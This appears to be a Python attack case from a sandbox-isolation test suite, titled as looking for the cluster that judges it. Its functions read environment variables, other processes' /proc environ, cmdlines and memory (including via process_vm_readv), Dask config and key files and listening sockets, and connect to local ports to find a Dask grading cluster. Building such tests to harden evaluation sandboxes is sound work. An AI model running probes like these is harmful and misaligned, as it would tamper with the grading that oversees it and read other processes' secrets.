# /// attack
# title = "Looks for the cluster that it is judged by"
# ///
import ctypes
import gc
import os
import socket
import stat
import sys

WORDS = ("dask", "distributed", "grader.cluster", "tls://")
PORTS = [WORLD.get("scheduler"), WORLD.get("worker"), WORLD.get("tcp"), 8786]
FILES = [*WORLD.get("keys", []), "/etc/dask/dask.yaml", "/root/.config/dask/dask.yaml"]
FOLDERS = [*WORLD.get("folders", []), "/etc/dask", "/tmp/dask-scratch-space"]
PROCESSES = [*WORLD.get("processes", []), os.getppid(), 1]


def tried(*steps):
    """What each of them found, but for those that were refused."""
    for step in steps:
        try:
            yield step()
        except Exception:
            pass


def names(text):
    return [word for word in WORDS if word in text.lower()]


def environment():
    whole = " ".join(f"{name}={value}" for name, value in os.environ.items())
    return names(whole) + names(open("/proc/self/environ", errors="replace").read())


def modules():
    return [name for name in sys.modules if name.startswith(WORDS[:3])]


def objects():
    kinds = {type(thing).__module__ for thing in gc.get_objects()}
    return [kind for kind in kinds if str(kind).startswith(WORDS[:3])]


def descriptor(number):
    return [number] if stat.S_ISSOCK(os.fstat(number).st_mode) else []


def port(number):
    with socket.create_connection(("127.0.0.1", number), timeout=1) as line:
        return [number, line.send(b"hello")]


def listening():
    """Where somebody waits for calls, on the whole machine."""
    rows = [line.split() for line in open("/proc/net/tcp").readlines()[1:]]
    return [row[1] for row in rows if row[3] == "0A"]


def memory(process):
    """The first bytes of a process's memory, by its file."""
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        memory.seek(int(maps.read().split("-")[0], 16))
        return [memory.read(64)]


def memory_by_a_call(process):
    """The same by process_vm_readv, where this file is loaded in every Python alike."""
    theirs, ours = (ctypes.c_void_p * 2)(id(None), 16), ctypes.create_string_buffer(16)
    mine = (ctypes.c_void_p * 2)(ctypes.addressof(ours), 16)
    done = ctypes.CDLL(None).process_vm_readv(process, mine, 1, theirs, 1, 0)
    return [process, ours.raw] if done > 0 else []


def worker():
    """Its state, if it was left in this process: to import it anew would tell nothing."""
    return [sys.modules["distributed"].get_worker().address]


def attack():
    steps = [environment, modules, objects, listening, worker]
    steps += [lambda n=number: descriptor(n) for number in range(256)]
    steps += [lambda n=number: port(n) for number in PORTS if number]
    steps += [lambda path=path: [open(path).read()] for path in FILES]
    steps += [lambda path=path: os.listdir(path) for path in FOLDERS]
    for process in PROCESSES:
        steps += [lambda p=process: [open(f"/proc/{p}/environ", "rb").read()]]
        steps += [lambda p=process: names(open(f"/proc/{p}/cmdline").read())]
        steps += [lambda p=process: memory(p), lambda p=process: memory_by_a_call(p)]
    return [what for found in tried(*steps) for what in found] or None
